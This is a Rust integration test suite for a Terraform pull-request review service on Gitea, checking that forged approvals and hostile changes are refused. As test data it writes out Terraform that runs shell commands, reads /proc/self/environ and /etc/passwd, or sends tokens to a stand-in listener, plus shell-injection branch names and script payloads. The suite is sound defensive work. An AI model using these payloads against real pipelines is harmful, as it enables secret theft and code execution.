//! Who could want to make a review apply what nobody approved, or show what nobody may see, and what
//! comes of it: on the real Gitea, with the real Terraform and provider. docs/review.md has the list.
//! `scripts/run-integration-tests.sh` runs these.
#![expect(clippy::unwrap_used, reason = "a test")]

mod authors;
mod by_hand;
mod clear;
mod cut;
mod groups;
mod inventory;
mod owners;
mod restored;
mod unknown;
mod yesterday;

use crate::support::gitea::{User, admin_token, api, ask, variable};
use crate::support::review::{Managed, Review};
use base64::Engine;
use base64::engine::general_purpose::STANDARD as BASE64;
use pulldown_cmark::{Event, Options, Parser};
use serde_json::{Value, json};
use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;

const BACKEND: &str = "terraform {\n  backend \"http\" {}\n}\n";
const PROVIDERS: &str = "terraform {\n  required_providers {\n    gitea = {\n      source  = \"go-gitea/gitea\"\n      version = \">= 0.8.1\"\n    }\n  }\n}\n";

/// Code that makes an organisation of the module's own.
fn organization(name: &str, description: &str) -> String {
    format!(
        "resource \"gitea_org\" \"team\" {{\n  name        = \"{name}\"\n  full_name   = \"Team\"\n  description = \"{description}\"\n  visibility  = \"private\"\n}}\n"
    )
}

/// The files of a Team's root module, with the inventory that the platform would write for it.
fn module(team: &Managed) -> Vec<(String, String)> {
    let folder = format!("teams/{}", team.0);
    let files = ["backend.tf", "main.tf", "providers.tf"];
    let list: String = files.iter().map(|file| format!("- {folder}/{file}\n")).collect();
    let inventory = format!("request:\n  kind: Team\n  namespace: default\n  name: {}\nfiles:\n{list}", team.0);
    vec![
        (format!("{folder}/backend.tf"), BACKEND.to_owned()),
        (format!("{folder}/main.tf"), organization(&team.0, "")),
        (format!("{folder}/providers.tf"), PROVIDERS.to_owned()),
        (format!(".goldpath/team/default/{}.yaml", team.0), inventory),
    ]
}

/// Files on a new branch of a repository, as somebody with a token.
fn commit(token: &str, repository: &str, branch: &str, message: &str, files: &[(String, String)]) {
    let files: Vec<_> = files
        .iter()
        .map(|(path, content)| json!({"operation": "create", "path": path, "content": BASE64.encode(content)}))
        .collect();
    let commit = json!({"branch": "main", "new_branch": branch, "message": message, "files": files});
    let (status, answer) = ask(token, "POST", &format!("/repos/{repository}/contents"), &commit);
    assert_eq!(status, 201, "{answer}");
}

/// Opens a pull request as somebody with a token.
fn open(review: &Review, token: &str, head: &str, title: &str) -> u64 {
    let pull = json!({"base": "main", "head": head, "title": title, "body": title});
    let (status, pull) = ask(token, "POST", &review.path("/pulls"), &pull);
    assert_eq!(status, 201, "{pull}");
    pull["number"].as_u64().unwrap()
}

/// The repository's owner and name.
fn infrastructure(review: &Review) -> String {
    format!("{}/infrastructure", review.organization.0)
}

/// No secret of a run's is in a text.
fn assert_silent(review: &Review, text: &str) {
    for secret in [admin_token(), review.robot_token.clone(), "GITEA_TOKEN=".to_owned(), "root:x:0".to_owned()] {
        assert!(!text.contains(&secret), "a secret is shown");
    }
}

/// A working copy that git itself pushes, for what Gitea's API does not write.
struct Clone(tempfile::TempDir);

impl Clone {
    fn new(review: &Review) -> Self {
        let clone = Self(tempfile::tempdir().unwrap());
        let url = format!("{}/{}.git", variable("GITEA_URL"), infrastructure(review));
        clone.git(review, &["init", "--quiet"]);
        clone.git(review, &["remote", "add", "origin", &url]);
        clone.git(review, &["fetch", "--quiet", "origin", "main"]);
        clone.git(review, &["checkout", "--quiet", "-b", "work", "FETCH_HEAD"]);
        clone
    }

    fn git(&self, review: &Review, arguments: &[&str]) -> String {
        let user = BASE64.encode(format!("{}:{}", review.writer.0, review.writer_token));
        let mut git = Command::new("git");
        git.current_dir(self.0.path()).args(["-c", "user.name=x", "-c", "user.email=x@example.com"]);
        git.env("GIT_SSL_CAINFO", variable("GITEA_CA_FILE")).env("GIT_CONFIG_COUNT", "1");
        git.env("GIT_CONFIG_KEY_0", "http.extraHeader");
        git.env("GIT_CONFIG_VALUE_0", format!("Authorization: Basic {user}"));
        let output = git.args(arguments).output().unwrap();
        assert!(output.status.success(), "git {arguments:?}: {}", crate::support::review::said(&output));
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.0.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
}

/// Code that would run a program, read a file, or send a token away; each is a root module of its own.
fn hostile(marker: &Path, listener: &str) -> Vec<(&'static str, &'static str, String)> {
    let touch = format!("[\"sh\", \"-c\", \"env > {}\"]", marker.display());
    let org = |description: &str| {
        format!("resource \"gitea_org\" \"team\" {{\n  name        = \"x\"\n  description = {description}\n}}\n")
    };
    vec![
        ("external", "main.tf", format!("data \"external\" \"x\" {{\n  program = {touch}\n}}\n")),
        (
            "local-exec",
            "main.tf",
            format!(
                "resource \"gitea_org\" \"team\" {{\n  name = \"x\"\n  provisioner \"local-exec\" {{\n    command = \"env > {}\"\n  }}\n}}\n",
                marker.display()
            ),
        ),
        ("environ", "main.tf", org("file(\"/proc/self/environ\")")),
        ("template", "main.tf", org("templatefile(\"/etc/passwd\", {})")),
        (
            "elsewhere",
            "main.tf",
            format!(
                "terraform {{\n  required_providers {{\n    evil = {{\n      source  = \"{listener}/evil/evil\"\n      version = \"1.0.0\"\n    }}\n  }}\n}}\n"
            ),
        ),
        (
            "base-url",
            "main.tf",
            format!("provider \"gitea\" {{\n  base_url = \"http://{listener}\"\n}}\n\n{}", organization("x", "")),
        ),
        (
            "backend-http",
            "more.tf",
            format!("terraform {{\n  backend \"http\" {{\n    address = \"http://{listener}\"\n  }}\n}}\n"),
        ),
        ("module-url", "main.tf", format!("module \"x\" {{\n  source = \"http://{listener}/x.zip\"\n}}\n")),
        ("in-json", "main.tf.json", format!("{{\"data\": {{\"external\": {{\"x\": {{\"program\": {touch}}}}}}}}}")),
        ("overrides", "override.tf", format!("provider \"gitea\" {{\n  base_url = \"http://{listener}\"\n}}\n")),
        ("locks", ".terraform.lock.hcl", String::new()),
        ("configures", ".terraformrc", format!("credentials \"{listener}\" {{\n  token = \"x\"\n}}\n")),
        ("sets", "terraform.tfvars", "x = 1\n".to_owned()),
    ]
}

#[test]
#[ignore = "needs a Gitea: scripts/run-integration-tests.sh"]
fn code_that_runs_programs_reads_files_or_sends_tokens_away_is_never_run() {
    let review = Review::new("hostile", &json!({}));
    let folder = tempfile::Builder::new().prefix("gp").tempdir().unwrap();
    let marker = folder.path().join("marker");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let clone = Clone::new(&review);
    let mut names = Vec::new();
    for (name, file, text) in hostile(&marker, &address) {
        let folder = format!("teams/gp-{}-{name}", std::process::id());
        clone.write(&format!("{folder}/backend.tf"), BACKEND);
        clone.write(&format!("{folder}/providers.tf"), PROVIDERS);
        clone.write(&format!("{folder}/{file}"), &text);
        names.push(folder);
    }
    let [link, sub, reach] = ["link", "sub", "reach"].map(|name| format!("teams/gp-{}-{name}", std::process::id()));
    for folder in [&link, &sub, &reach] {
        clone.write(&format!("{folder}/backend.tf"), BACKEND);
        clone.write(&format!("{folder}/providers.tf"), PROVIDERS);
    }
    let team = format!(
        "resource \"gitea_team\" \"x\" {{\n  organisation = \"{}\"\n  name         = \"intruders\"\n  permission   = \"admin\"\n}}\n",
        review.organization.0
    );
    clone.write(&format!("{reach}/main.tf"), &team);
    for misnamed in ["Teams/X", "teams/a b"] {
        clone.write(&format!("{misnamed}/backend.tf"), BACKEND);
    }
    clone.git(&review, &["add", "--all", "--force"]);
    clone.write("target", "/etc/passwd");
    let target = clone.git(&review, &["hash-object", "-w", "target"]);
    let head = clone.git(&review, &["rev-parse", "HEAD"]);
    for (mode, id, path) in [("120000", target, format!("{link}/main.tf")), ("160000", head, format!("{sub}/vendor"))] {
        clone.git(&review, &["update-index", "--add", "--cacheinfo", &format!("{mode},{id},{path}")]);
    }
    // What git allows in a name is what a shell would run.
    let branch = format!("$(touch${{IFS}}{});'\"&|`id`", marker.display());
    clone.git(
        &review,
        &["commit", "--quiet", "--message", &format!("`id` $(touch {0})\n\n\x1b[31m;touch {0}", marker.display())],
    );
    clone.git(&review, &["push", "--quiet", "origin", &format!("HEAD:refs/heads/{branch}")]);
    let title = format!("\x1b[2J$(touch {})\n<!-- goldpath: plan -->", marker.display());
    let number = open(&review, &review.writer_token, &branch, &title);
    names.extend([link, sub]);

    let said = review.run_well(&["plan"]);
    let whole = review.planned(number, "goldpath/plan");
    assert!(
        whole.starts_with("failure: ") && whole.contains("`Teams/X` is not the folder of a root module"),
        "{whole}"
    );
    assert!(!said.contains('\x1b') && said.lines().count() == 1, "{said}");
    for name in &names {
        assert_eq!(review.planned(number, &format!("goldpath/plan: {name}")), "failure: denied by policy: root-module");
    }
    assert_eq!(review.planned(number, &format!("goldpath/plan: {reach}")), "failure: denied by policy: reach");
    let comments = review.comments(number);
    assert_eq!(comments.len(), 1);
    assert_silent(&review, &comments[0].to_string());

    // Approved by everybody, and merged.
    for user in [&review.reviewer, &review.owner] {
        review.approve(user, number);
    }
    review.merge(number);
    let said = review.run_in_vain(&["apply"]);
    for name in names.iter().chain([&reach]) {
        assert!(said.contains(&format!("{name}: refused: it is denied by policy: ")), "{said}");
    }
    assert_eq!(said.lines().count(), names.len() + 1, "{said}");
    assert_silent(&review, &said);
    for comment in review.comments(number) {
        assert_silent(&review, comment["body"].as_str().unwrap());
    }
    assert!(!marker.exists(), "a program was run");
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "a token's way leads elsewhere");
    let teams = api("GET", &format!("/orgs/{}/teams", review.organization.0), &Value::Null);
    assert!(teams.as_array().unwrap().iter().all(|team| team["name"] != "intruders"));
    assert_eq!(review.open(), [] as [u64; 0], "what is denied is nobody's to approve");
}

#[test]
#[ignore = "needs a Gitea: scripts/run-integration-tests.sh"]
fn what_a_plan_shows_is_text_and_what_is_too_long_is_attached_once() {
    let review = Review::new("long", &json!({}));
    let team = review.team("long");
    let mut files = module(&team);
    let text = r"``` \u001b[31m <script>alert(1)</script> <!-- goldpath: plan --> @everyone </details> | x";
    files[1].1 = organization(&team.0, text);
    // 2 MB of output from a few lines of code.
    let long = "output \"long\" {\n  value = [for n in range(1000) : format(\"%d %s\", n, join(\"\", [for m in range(200) : \"`<b>12345\"]))]\n}\n";
    files.push((format!("teams/{}/outputs.tf", team.0), long.to_owned()));
    files[3].1 += &format!("- teams/{}/outputs.tf\n", team.0);
    commit(&review.writer_token, &infrastructure(&review), "long", "long", &files);
    let number = open(&review, &review.writer_token, "long", "long");
    review.run_well(&["plan"]);
    assert_eq!(review.planned(number, "goldpath/plan"), "success: +1 ~0 -0");
    let comments = review.comments(number);
    let body = comments[0]["body"].as_str().unwrap();
    assert!(comments.len() == 1 && body.len() <= 60_000 && body.starts_with("<!-- goldpath: plan -->\n"));
    assert!(!body.contains('\x1b'), "a terminal would be told something");
    let tags = Parser::new_ext(body, Options::all()).filter_map(|event| match event {
        Event::Html(html) | Event::InlineHtml(html) => Some(html.trim().to_owned()),
        _ => None,
    });
    for tag in tags.filter(|tag| !tag.is_empty() && !tag.contains("<!-- goldpath: plan -->")) {
        assert!(tag.starts_with("<details") || tag.starts_with("</details>") || tag.starts_with("<summary>"), "{tag}");
        assert!(!tag.contains("script"), "{tag}");
    }
    let (_, link) = body.split_once("[whole]: <").unwrap();
    let link = link.split_once('>').unwrap().0;
    let page = crate::support::gitea::get_text(link.strip_prefix(&variable("GITEA_URL")).unwrap());
    assert!(
        page.len() > 1_500_000 && page.contains(r"``` \x1b[31m <script>") && !page.contains('\x1b'),
        "{}",
        page.len()
    );
    let assets = || api("GET", &review.path(&format!("/issues/{number}/assets")), &Value::Null);
    assert_eq!(assets().as_array().unwrap().len(), 1);
    let before = assets();
    review.run_well(&["plan", "--pull", &number.to_string()]);
    assert_eq!((review.comments(number), assets()), (comments, before), "it was written again");
}

/// A pull request beside all root modules needs an owner of the platform, so its status tells whether
/// somebody's approval counts, and no Terraform is run.
#[test]
#[ignore = "needs a Gitea: scripts/run-integration-tests.sh"]
fn an_approval_counts_if_somebody_else_gave_it_who_may_for_this_commit_and_still_means_it() {
    let review = Review::new("approvals", &json!({}));
    let reader = User::new("approvals-reader");
    reader.join(&review.organization, "infrastructure", "read");
    review.configure(&json!({"owners": [review.owner.0, reader.0, review.robot.0]}));
    let waits = "pending: a platform owner must approve this: outside-folder";
    let number =
        review.propose("beside", &[("README.md", Some("new\n")), (".gitea/workflows/x.yaml", Some("on: push\n"))]);
    let says = || {
        review.run_well(&["plan", "--pull", &number.to_string()]);
        review.planned(number, "goldpath/plan")
    };
    assert_eq!(says(), waits);
    review.approve(&reader, number);
    assert_eq!(says(), waits, "a reader's word counts");
    review.approve(&review.robot, number);
    assert_eq!(says(), waits, "our own user's word counts");
    review.approve(&review.reviewer, number);
    assert_eq!(says(), waits, "anybody's word counts as an owner's");
    review.approve(&review.owner, number);
    assert_eq!(says(), "success: no root module is changed");
    assert_eq!(review.review(&review.owner, number, "REQUEST_CHANGES").0, 200);
    assert_eq!(says(), waits, "an approval counts that was taken back");
    let (_, given) = review.review(&review.owner, number, "APPROVED");
    assert!(says().starts_with("success: "));
    let dismissal = review.path(&format!("/pulls/{number}/reviews/{}/dismissals", given["id"]));
    api("POST", &dismissal, &json!({"message": "no", "priors": true}));
    assert_eq!(says(), waits, "an approval counts that was dismissed");
    review.approve(&review.owner, number);
    review.push("beside", "beside", &[("MORE.md", Some("more\n"))]);
    assert_eq!(says(), waits, "an approval of an older commit counts");
    review.approve(&review.owner, number);
    assert!(says().starts_with("success: "));

    // An owner who adds to it in the author's name, after enough of what Gitea's list of events hides.
    let token = review.owner.token("push", &["write:repository", "write:issue"]);
    let comment = json!({"path": "README.md", "body": "x", "new_position": 1});
    let comments = json!({"event": "COMMENT", "body": "", "commit_id": review.head(number), "comments": [comment]});
    let reviews = review.path(&format!("/pulls/{number}/reviews"));
    assert_eq!(ask(&token, "POST", &reviews, &comments).0, 200);
    for n in 0..50 {
        let comments = review.path(&format!("/issues/{number}/comments"));
        assert_eq!(ask(&token, "POST", &comments, &json!({"body": n.to_string()})).0, 201);
    }
    let name = json!({"name": review.writer.0, "email": format!("{}@example.com", review.writer.0)});
    let forged = json!({"branch": "beside", "message": "x\n\nGoldpath-Request: Team default/x", "author": name, "committer": name,
        "files": [{"operation": "create", "path": "FORGED.md", "content": ""}]});
    review.commit(&token, &forged);
    review.approve(&review.owner, number);
    assert_eq!(says(), waits, "who has pushed can approve");

    // The same while it is closed: who opens it again answers for it.
    let second = review.propose("closed", &[("CLOSED.md", Some("new\n"))]);
    let state = |state: &str| {
        let path = review.path(&format!("/pulls/{second}"));
        assert_eq!(ask(&token, "PATCH", &path, &json!({"state": state})).0, 201);
    };
    state("closed");
    let forged = json!({"branch": "closed", "message": "x", "author": name, "committer": name,
        "files": [{"operation": "create", "path": "FORGED.md", "content": ""}]});
    review.commit(&token, &forged);
    state("open");
    // Gitea may not have looked at the branch before this push, and then counts the owner's commit as the writer's.
    review.push("closed", "closed", &[("MORE.md", Some("more\n"))]);
    review.approve(&review.owner, second);
    review.run_well(&["plan"]);
    assert_eq!(review.planned(second, "goldpath/plan"), waits, "who has pushed can approve");

    // What is applied is recorded where no writer of the infrastructure repository can write.
    let records = review.organization.path("review", "/contents/applied.json");
    let forged = json!({"branch": "records", "message": "x", "content": BASE64.encode("{}")});
    assert!([403, 404].contains(&ask(&review.writer_token, "POST", &records, &forged).0));
}

#[test]
#[ignore = "needs a Gitea: scripts/run-integration-tests.sh"]
fn whatever_way_it_came_to_the_branch_it_is_applied_only_as_it_was_approved() {
    let review = Review::new("ways", &json!({}));
    let fork_author = User::new("ways-reader");
    fork_author.join(&review.organization, "infrastructure", "read");
    let fork_token = fork_author.token("fork", &["write:repository", "write:issue"]);
    let repository = infrastructure(&review);
    let [forked, left, right, hidden, bare, alone] =
        ["forked", "left", "right", "hidden", "bare", "alone"].map(|name| review.team(name));
    let status = |number: u64, team: &Managed| review.planned(number, &format!("goldpath/plan: teams/{}", team.0));
    let workflow = |name: &str| (format!(".gitea/workflows/{name}.yaml"), "on: push\njobs: {}\n".to_owned());

    // A reader's fork; its branch has the name of one of ours, and somebody has copied our comment beforehand.
    let fork = json!({"name": format!("fork-{}", std::process::id())});
    let (_, fork) = ask(&fork_token, "POST", &review.path("/forks"), &fork);
    let fork = fork["full_name"].as_str().unwrap();
    let branch = format!("goldpath/apply/teams/{}", bare.0);
    commit(&fork_token, fork, &branch, "Add a team", &module(&forked));
    let from_fork = open(&review, &fork_token, &format!("{}:{branch}", fork_author.0), "from a fork");
    let copied = json!({"body": "<!-- goldpath: plan -->\n### Plan: 1 root module, no changes"});
    let comments = review.path(&format!("/issues/{from_fork}/comments"));
    assert_eq!(ask(&review.writer_token, "POST", &comments, &copied).0, 201);
    // Two requests' folders and a workflow, and one folder and a workflow, from a branch with such a name too.
    let files = [module(&left), module(&right), vec![workflow("two")]].concat();
    commit(&review.writer_token, &repository, "two", "two", &files);
    let two = open(&review, &review.writer_token, "two", "two");
    let files = [module(&hidden), vec![workflow("hidden")]].concat();
    let branch = format!("goldpath/apply/teams/{}", hidden.0);
    let message = format!("hidden\n\nGoldpath-Request: Team default/{}", hidden.0);
    commit(&review.writer_token, &repository, &branch, &message, &files);
    let from_hidden = open(&review, &review.writer_token, &branch, "hidden");
    // Nobody's folder, whose commit says that it is somebody's.
    let files = &module(&alone)[..3];
    let message = format!("alone\n\nGoldpath-Request: Team default/{}", left.0);
    commit(&review.writer_token, &repository, "alone", &message, files);
    let from_alone = open(&review, &review.writer_token, "alone", "alone");
    commit(&review.writer_token, &repository, "bare", "bare", &module(&bare));
    let from_bare = open(&review, &review.writer_token, "bare", "bare");

    let forged = json!({"context": "goldpath/plan", "state": "success"});
    let statuses = review.path(&format!("/statuses/{}", review.head(from_fork)));
    assert_eq!(ask(&fork_token, "POST", &statuses, &forged).0, 403);

    review.run_well(&["plan"]);
    let needs = |rules: &str| format!("success: +1 ~0 -0, needs a platform owner: {rules}");
    assert_eq!(status(from_fork, &forked), "success: +1 ~0 -0");
    for (number, team) in [(two, &left), (two, &right), (from_hidden, &hidden)] {
        assert_eq!(status(number, team), needs("outside-folder"));
    }
    assert_eq!(status(from_alone, &alone), needs("owner"));
    for number in [two, from_hidden] {
        let pending = "pending: a platform owner must approve this: outside-folder";
        assert_eq!(review.planned(number, "goldpath/plan"), pending);
    }
    let shown = review.comments(from_bare)[0].clone();
    let comment = review.path(&format!("/issues/comments/{}", shown["id"]));
    assert_eq!(ask(&review.writer_token, "DELETE", &comment, &Value::Null).0, 204);
    for number in [from_fork, two, from_hidden, from_alone, from_bare] {
        review.approve(&review.reviewer, number);
        review.merge(number);
    }
    // What is pushed after the merge is nobody's.
    review.push("bare", "bare", &[("README.md", Some("later\n"))]);

    let said = review.run_in_vain(&["apply"]);
    assert_eq!(review.applied(from_fork, &forked), "success: +1 ~0 -0", "{said}");
    let outside = "failure: refused: a platform owner must approve it: outside-folder";
    for (number, team) in [(two, &left), (two, &right), (from_hidden, &hidden)] {
        assert_eq!(review.applied(number, team), outside, "{said}");
    }
    assert_eq!(review.applied(from_alone, &alone), "failure: refused: a platform owner must approve it: owner");
    let removed = format!("failure: refused: somebody has removed the comment with the plan of #{from_bare}");
    assert_eq!(review.applied(from_bare, &bare), removed);
    assert!(forked.get().is_some());
    for team in [&left, &right, &hidden, &bare, &alone] {
        assert!(team.get().is_none(), "{} is there", team.0);
    }

    // A fork's branch of the same name is not where we ask.
    let asked = review.open();
    assert_eq!(asked.len(), 5);
    let branch = format!("goldpath/apply/teams/{}", bare.0);
    commit(&fork_token, fork, "spoof", "spoof", &[("x".to_owned(), String::new())]);
    let again = json!({"old_branch_name": "spoof", "new_branch_name": format!("goldpath/apply/teams/{}", left.0)});
    assert_eq!(ask(&fork_token, "POST", &format!("/repos/{fork}/branches"), &again).0, 201);
    let spoof = open(&review, &fork_token, &format!("{}:goldpath/apply/teams/{}", fork_author.0, left.0), "spoof");
    let close = json!({"state": "closed"});
    assert_eq!(ask(&fork_token, "PATCH", &review.path(&format!("/pulls/{spoof}")), &close).0, 201);
    let comments = review.comments(two);
    review.run_in_vain(&["apply"]);
    assert_eq!((review.open(), review.comments(two)), (asked.clone(), comments));

    // Merging what asks is not enough, and does not end the asking.
    let of = |branch: &str| {
        let pulls = review.organization.pulls("infrastructure");
        let of_branch = |p: &&Value| p["state"] == "open" && p["head"]["label"] == branch;
        pulls.iter().find(of_branch).map(|p| p["number"].as_u64().unwrap()).unwrap()
    };
    let first = of(&branch);
    review.merge(first);
    let owners: Vec<u64> = asked.into_iter().filter(|number| *number != first).collect();
    for (place, number) in owners.iter().enumerate() {
        assert!(review.planned(*number, "goldpath/plan").starts_with("pending: a platform owner must approve this"));
        review.approve(if place == 0 { &review.reviewer } else { &review.owner }, *number);
        review.merge(*number);
    }
    let said = review.run_in_vain(&["apply"]);
    assert_eq!(said.lines().filter(|line| line.contains("refused")).count(), 2, "{said}");
    let open = review.open();
    assert_eq!(open.len(), 2, "{said}");
    for number in open {
        review.approve(&review.owner, number);
        review.merge(number);
    }
    review.run_well(&["apply"]);
    for team in [&left, &right, &hidden, &bare, &alone] {
        assert!(team.get().is_some(), "{} is not there", team.0);
    }
}
